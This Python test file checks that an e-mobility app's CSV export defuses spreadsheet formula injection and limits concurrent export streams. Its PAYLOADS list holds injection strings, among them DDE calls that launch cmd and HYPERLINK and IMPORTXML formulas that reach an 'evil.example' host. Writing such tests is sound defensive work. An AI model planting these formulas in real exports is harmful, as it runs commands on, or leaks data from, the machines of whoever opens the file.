"""Exports: nothing that a charge point says becomes a formula; few run at once; an end frees its place."""

import asyncio
import csv
import io
import json
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pytest

from emobility.lib.errors import TooMany
from emobility.lib.exports import Table, export_lines, export_response, rows_of
from emobility.lib.streams import places
from registry.models import Organization

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example","x")',
    '=IMPORTXML("http://evil.example","//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  +1",
    "'=1+1",
    '"=1+1"',
    '"\n=1+1',
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r\n@x",
    "a|-2+3",
    'a; "=1+1',
    "\uff1d1+1",
    "\uff0b1",
    "\uff20x",
    '=DDE("cmd";"/c calc";"x")',
    "-2+3+cmd|' /C calc'!D2",
    "\x00=1+1",
    "@import",
    "=" * 300,
    "<script>alert(1)</script>;=1",
]


def begins_a_formula(cell: str) -> bool:
    return cell.lstrip(' "').startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff20"))


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_t19_no_payload_begins_a_cell_of_a_csv(separator):
    """Whichever sign the reader splits at: what it takes for a cell is no formula."""
    assert len(PAYLOADS) == 30
    table = Table("x", ("one", "two"), lambda: [(each, each) for each in PAYLOADS])
    text = b"".join(export_lines(table, "csv")).decode()
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
    assert [cell for row in rows for cell in row if begins_a_formula(cell)] == []


def test_t19_what_is_exported_can_be_read_back():
    """Text keeps its text; numbers, times and JSON are what they were."""
    moment = datetime(2026, 3, 1, 12, 0, 0, 120_000, tzinfo=UTC)
    row = ("Łódź, Αθήνα", -5, Decimal("-1.2500"), moment, None, True, {"a": [1]})
    table = Table("x", tuple("abcdefg"), lambda: [row])
    cells = list(csv.reader(io.StringIO(b"".join(export_lines(table, "csv")).decode(), newline="")))[1]
    assert cells == ["Łódź, Αθήνα", "-5", "-1.2500", "2026-03-01T12:00:00.120Z", "", "true", '{"a":[1]}']
    line = json.loads(b"".join(export_lines(table, "jsonl")))
    told = ["Łódź, Αθήνα", -5, "-1.2500", "2026-03-01T12:00:00.120Z", None, True, {"a": [1]}]
    assert line == dict(zip("abcdefg", told, strict=True))


@pytest.mark.django_db
def test_rows_come_once_each_in_the_order_in_which_they_were_written(monkeypatch):
    monkeypatch.setattr("emobility.lib.exports.BATCH", 3)
    made = [Organization.objects.create(name=f"O{n}", slug=f"o{n}").name for n in range(8)]
    assert [name for (name,) in rows_of(Organization.objects.order_by("-name"), ["name"])] == made


@pytest.mark.django_db
def test_few_run_at_once_and_half_of_them_for_one_owner(settings):
    settings.EXPORT_STREAMS = 4
    table = Table("x", ("a",), lambda: [(1,)])
    open_ones = [export_response(table, "csv", owner="amber") for _ in range(2)]
    with pytest.raises(TooMany):
        export_response(table, "csv", owner="amber")
    open_ones.append(export_response(table, "csv", owner="basalt"))
    for response in open_ones:
        response.close()
        response.close()
    assert places.taken == 0


@pytest.mark.django_db
async def test_who_takes_nothing_loses_the_query_and_who_goes_away_ends_it(monkeypatch):
    """The generator is closed on its own thread in both cases."""
    monkeypatch.setattr("emobility.lib.streams.STALL_SECONDS", 0.05)
    for leave in (False, True):
        closed = asyncio.Event()
        loop = asyncio.get_running_loop()

        def rows(loop=loop, closed=closed):
            try:
                for number in range(100_000):
                    yield (number,)
            finally:
                loop.call_soon_threadsafe(closed.set)

        response = export_response(Table("x", ("a",), rows), "csv")
        pieces: Any = aiter(response)
        assert (await anext(pieces)).startswith(b'"a"')
        if leave:
            await pieces.aclose()
        await asyncio.wait_for(closed.wait(), 5)
        if not leave:
            with pytest.raises(ConnectionError):
                await anext(pieces)
        response.close()
    assert places.taken == 0
